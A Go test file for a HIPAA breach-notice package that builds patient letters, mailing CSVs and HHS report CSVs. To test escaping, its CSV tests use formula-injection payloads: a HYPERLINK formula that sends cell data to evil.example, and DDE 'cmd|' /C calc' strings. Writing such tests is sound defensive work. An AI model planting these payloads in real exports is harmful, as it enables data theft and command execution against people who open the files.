package notice_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/phivault/phivault"
	"github.com/phivault/phivault/incident/notice"
)

const (
	patientName = "Zebulon Quixote"
	patientLine = "12 Larkspur Lane"
)

func request(format string) *notice.Request {
	return &notice.Request{
		Format: format,
		Organisation: notice.Organisation{
			Name: "Hillside Clinic", Type: "Healthcare Provider", Phone: "1-800-555-0100", Email: "privacy@hillside.example",
			Website: "https://hillside.example/privacy", Contact: "Ada Byrne, Privacy Officer",
			Address: notice.Address{Lines: []string{"1 Main Street"}, City: "Springfield", State: "MA", PostalCode: "01101"},
		},
		WhatHappened: "A member of our staff looked at records\nthey had no reason to see.\n\nWe suspended their access.",
		Steps:        "Review the statements you get from your health insurer.",
		Mitigation:   "We are retraining staff and reviewing access reports every week.",
	}
}

func addressee() notice.Addressee {
	return notice.Addressee{Status: notice.StatusMail, Name: patientName,
		Address: notice.Address{Lines: []string{patientLine, "Apt 4"}, City: "Boston", State: "MA", PostalCode: "02110"}}
}

var breach = notice.Breach{
	Incident:   "inc-0123456789abcdef0123456789abcdef",
	Began:      time.Date(2026, 10, 3, 14, 0, 0, 0, time.UTC),
	Ended:      time.Date(2026, 10, 9, 8, 0, 0, 0, time.UTC),
	Discovered: time.Date(2026, 10, 10, 9, 0, 0, 0, time.UTC),
	Resources:  7, ByKind: map[string]int{"demographics": 2, "results": 4, "financial": 1},
	ActionsDone: []string{"suspend-account"},
}

func mustValid(t *testing.T, r *notice.Request) *notice.Request {
	t.Helper()
	if err := r.Validate(); err != nil {
		t.Fatalf("Validate() = %v", err)
	}
	return r
}

// TestCompose checks that a letter has every element 45 CFR 164.404(c)(1)
// requires, with this patient's kinds of PHI and no others.
func TestCompose(t *testing.T) {
	r := mustValid(t, request(notice.FormatPDF))
	date := time.Date(2026, 10, 20, 0, 0, 0, 0, time.UTC)
	l := notice.Compose(breach, []string{"demographics", "results"}, addressee(), r, date, "01234567-0001")
	elements := map[string]bool{}
	for _, s := range l.Sections {
		elements[s.Element] = len(s.Paragraphs) > 0
	}
	for _, e := range []string{notice.ElementWhatHappened, notice.ElementInformation, notice.ElementSteps, notice.ElementMitigation, notice.ElementContact} {
		if !elements[e] {
			t.Errorf("element %s of 164.404(c)(1) missing", e)
		}
	}
	text := l.Text()
	for _, want := range []string{
		"Dear Zebulon Quixote,", patientLine, "Boston, MA 02110",
		"Between October 3, 2026 and October 9, 2026", "We found out about it on October 10, 2026.", // (A) the dates
		"they had no reason to see.", "We suspended their access.", // (A) the officer's words, paragraphs joined
		"your name and the details that identify you", "your test results", // (B) this patient's kinds
		"Review the statements",            // (C)
		"retraining staff",                 // (D)
		"free of charge at 1-800-555-0100", // (E) toll-free
		"E-mail: privacy@hillside.example", "Website: https://hillside.example/privacy",
		"Write to: Hillside Clinic, 1 Main Street, Springfield, MA 01101",
		"reference 01234567-0001", "Ada Byrne, Privacy Officer", "October 20, 2026",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("the letter lacks %q:\n%s", want, text)
		}
	}
	// The near miss: kinds of other patients' records are not this one's.
	for _, not := range []string{"insurance, billing", "medicines", "diagnoses"} {
		if strings.Contains(text, not) {
			t.Errorf("the letter names %q, which did not leave of this record", not)
		}
	}
	// One day: "On", not "Between"; the officer's dates win.
	r.BreachStart, r.BreachEnd = breach.Began, breach.Began.Add(time.Hour)
	if text := notice.Compose(breach, nil, addressee(), r, date, "x").Text(); !strings.Contains(text, "On October 3, 2026, someone") ||
		!strings.Contains(text, "other information in your health record") {
		t.Errorf("a one-day breach with no kind known:\n%s", text)
	}
}

func TestRequest_Validate(t *testing.T) {
	ok := mustValid(t, request(notice.FormatHHS))
	if ok.Signature != "Ada Byrne, Privacy Officer" || ok.HHS.ReportType != "Initial" || ok.HHS.BreachType != "Unauthorized Access/Disclosure" ||
		ok.HHS.Location != "Electronic Medical Record" {
		t.Fatalf("defaults %+v", ok)
	}
	tests := []struct {
		name   string
		change func(r *notice.Request)
	}{
		{"no format", func(r *notice.Request) { r.Format = "" }},
		{"bad format", func(r *notice.Request) { r.Format = "docx" }},
		{"no phone", func(r *notice.Request) { r.Organisation.Phone = " " }},
		{"no name", func(r *notice.Request) { r.Organisation.Name = "" }},
		{"no steps", func(r *notice.Request) { r.Steps = "" }},
		{"no mitigation", func(r *notice.Request) { r.Mitigation = "\n" }},
		{"no description", func(r *notice.Request) { r.WhatHappened = "" }},
		{"phone only", func(r *notice.Request) {
			r.Organisation.Email, r.Organisation.Website, r.Organisation.Address = "", "", notice.Address{}
		}},
		{"control character", func(r *notice.Request) { r.Organisation.Name = "Hillside\x1b[2J" }},
		{"newline in a field", func(r *notice.Request) { r.Organisation.Phone = "1-800\n555" }},
		{"too long", func(r *notice.Request) { r.Steps = strings.Repeat("x", notice.MaxText+1) }},
		{"not UTF-8", func(r *notice.Request) { r.Mitigation = "\xff" }},
		{"unknown breach type", func(r *notice.Request) { r.HHS.BreachType = "Oops" }},
		{"unknown location", func(r *notice.Request) { r.HHS.Location = "Cloud" }},
		{"report type", func(r *notice.Request) { r.HHS.ReportType = "Final" }},
		{"end before start", func(r *notice.Request) { r.BreachStart, r.BreachEnd = breach.Ended, breach.Began }},
		{"too many safeguards", func(r *notice.Request) { r.HHS.Safeguards = make([]string, notice.MaxList+1) }},
	}
	for _, tt := range tests {
		r := request(notice.FormatPDF)
		tt.change(r)
		if err := r.Validate(); phivault.ErrorCode(err) != phivault.EINVALID {
			t.Errorf("%s: Validate() = %v, want EINVALID", tt.name, err)
		} else if strings.Contains(err.Error(), "\x1b") || strings.Contains(err.Error(), "Oops") {
			t.Errorf("%s: the error echoes the value: %v", tt.name, err)
		}
	}
	// A postal address alone is contact enough besides the phone.
	r := request(notice.FormatCSV)
	r.Organisation.Email, r.Organisation.Website = "", ""
	mustValid(t, r)
}

func TestAddressee_neverPrinted(t *testing.T) {
	a := addressee()
	var buf bytes.Buffer
	slog.New(slog.NewJSONHandler(&buf, nil)).Info("addressee", "to", a, "ptr", &a)
	out := buf.String() + fmt.Sprintf("%v %+v %#v %s", a, a, a, a)
	if strings.Contains(out, "Zebulon") || strings.Contains(out, "Larkspur") {
		t.Fatalf("the name or address was printed: %s", out)
	}
	if !strings.Contains(out, notice.StatusMail) {
		t.Fatalf("the status was not printed: %s", out)
	}
}

func TestAddressee_Check(t *testing.T) {
	if got := addressee().Check().Status; got != notice.StatusMail {
		t.Errorf("a full address: %s", got)
	}
	for name, a := range map[string]notice.Addressee{
		"no name":   {Status: notice.StatusMail, Address: addressee().Address},
		"no street": {Status: notice.StatusMail, Name: patientName, Address: notice.Address{City: "Boston", State: "MA"}},
		"no city":   {Status: notice.StatusMail, Name: patientName, Address: notice.Address{Lines: []string{patientLine}}},
	} {
		if got := a.Check().Status; got != notice.StatusNoAddress {
			t.Errorf("%s: %s, want %s", name, got, notice.StatusNoAddress)
		}
	}
	if got := (notice.Addressee{Status: notice.StatusGone}).Check().Status; got != notice.StatusGone {
		t.Errorf("gone: %s", got)
	}
}

func letters(t *testing.T, n int) []*notice.Letter {
	r := mustValid(t, request(notice.FormatPDF))
	var out []*notice.Letter
	for i := range n {
		to := addressee()
		to.Name = fmt.Sprintf("%s %d Ørsted Σωκράτης", patientName, i)
		out = append(out, notice.Compose(breach, []string{"results"}, to, r, breach.Discovered, fmt.Sprintf("01234567-%04d", i+1)))
	}
	return out
}

// TestWritePDF checks the PDF is well formed: its header and trailer, a
// page per letter (these letters fit one page each), the embedded font.
func TestWritePDF(t *testing.T) {
	for _, n := range []int{0, 1, 3} {
		var buf bytes.Buffer
		if err := notice.WritePDF(&buf, letters(t, n), breach.Discovered); err != nil {
			t.Fatalf("WritePDF(%d letters) = %v", n, err)
		}
		b := buf.Bytes()
		if !bytes.HasPrefix(b, []byte("%PDF-1.")) || !bytes.HasSuffix(bytes.TrimSpace(b), []byte("%%EOF")) || !bytes.Contains(b, []byte("startxref")) {
			t.Fatalf("%d letters: not a PDF: %q … %q", n, b[:min(len(b), 16)], b[max(0, len(b)-32):])
		}
		pages := bytes.Count(b, []byte("/Type /Page\n")) + bytes.Count(b, []byte("/Type /Page ")) + bytes.Count(b, []byte("/Type /Page/"))
		if want := max(n, 1); pages != want {
			t.Errorf("%d letters: %d pages, want %d", n, pages, want)
		}
		if n > 0 && (len(b) < 2000 || !bytes.Contains(b, []byte("/FontFile2"))) {
			t.Errorf("%d letters: %d bytes, font embedded %v", n, len(b), bytes.Contains(b, []byte("/FontFile2")))
		}
	}
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("%v\n%s", err, b)
	}
	return rows
}

// TestWriteMailing_injection checks that a name or address a spreadsheet
// would run as a formula is written as text.
func TestWriteMailing_injection(t *testing.T) {
	ls := letters(t, 2)
	ls[0].To.Name = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	ls[0].To.Address.Lines = []string{"+1+cmd|' /C calc'!A0", "-2", "@SUM(1)", "\tx"}
	ls[1].To.Address.City = "Boston=" // not at the start: left alone
	var buf bytes.Buffer
	if err := notice.WriteMailing(&buf, ls); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	if len(rows) != 3 || strings.Join(rows[0], ",") != strings.Join(notice.MailingHeader, ",") {
		t.Fatalf("rows %q", rows)
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell %q starts a formula", cell)
		}
	}
	if rows[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"Click")` || rows[1][2] != "'+1+cmd|' /C calc'!A0" || rows[1][4] != "'@SUM(1), x" {
		t.Errorf("row %q", rows[1])
	}
	if rows[2][0] != "01234567-0002" || !strings.HasPrefix(rows[2][1], patientName) || rows[2][2] != patientLine || rows[2][3] != "Apt 4" ||
		rows[2][5] != "Boston=" || rows[2][6] != "MA" || rows[2][7] != "02110" {
		t.Errorf("row %q", rows[2])
	}
}

func TestWriteHHS(t *testing.T) {
	r := mustValid(t, request(notice.FormatHHS))
	r.WhatHappened = "=cmd|' /C calc'!A0 and more"
	r.HHS.Safeguards = []string{"Security Rule Technical Safeguards", "@risk"}
	rep := &notice.HHSReport{Request: r, Breach: breach, Summary: notice.Summary{Letters: 497, Substitute: 2, Deceased: 1, Decoys: 3},
		MediaStates: nil, Generated: breach.Discovered}
	var buf bytes.Buffer
	if err := notice.WriteHHS(&buf, rep); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	if len(rows) != 2 || len(rows[1]) != len(notice.HHSHeader) {
		t.Fatalf("rows %q", rows)
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	for field, want := range map[string]string{
		"breach_affecting": "500 or More Individuals", "approximate_individuals_affected": "500",
		"covered_entity_name": "Hillside Clinic", "contact_phone": "1-800-555-0100",
		"breach_start_date": "2026-10-03", "breach_end_date": "2026-10-09", "discovery_start_date": "2026-10-10",
		"type_of_breach": "Unauthorized Access/Disclosure", "location_of_breached_information": "Electronic Medical Record",
		"type_of_phi":                "Demographic; Clinical: Lab Results; Financial: Claims Information",
		"brief_description":          "'=cmd|' /C calc'!A0 and more",
		"safeguards_in_place":        "Security Rule Technical Safeguards; @risk",
		"substitute_notice_required": "Yes", "media_notice_required": "No",
		"actions_taken": "Other: incident containment actions done: suspend-account",
		"incident":      breach.Incident, "resources_affected": "7",
	} {
		if got[field] != want {
			t.Errorf("%s = %q, want %q", field, got[field], want)
		}
	}
	// One fewer is fewer than 500.
	rep.Summary.Letters--
	rep.MediaStates = []string{"MA"}
	buf.Reset()
	notice.WriteHHS(&buf, rep)
	rows = readCSV(t, buf.Bytes())
	if !strings.Contains(strings.Join(rows[1], ","), "Fewer Than 500 Individuals") || !strings.Contains(strings.Join(rows[1], ","), ",Yes,MA,") {
		t.Errorf("499: %q", rows[1])
	}
}

func TestSummary_SubstituteRule(t *testing.T) {
	for n, want := range map[int]string{0: "", 9: "164.404(d)(2)(i)", 10: "164.404(d)(2)(ii)"} {
		if got := (notice.Summary{Substitute: n}).SubstituteRule(); !strings.Contains(got, want) || (want == "") != (got == "") {
			t.Errorf("SubstituteRule(%d) = %q, want %q", n, got, want)
		}
	}
}
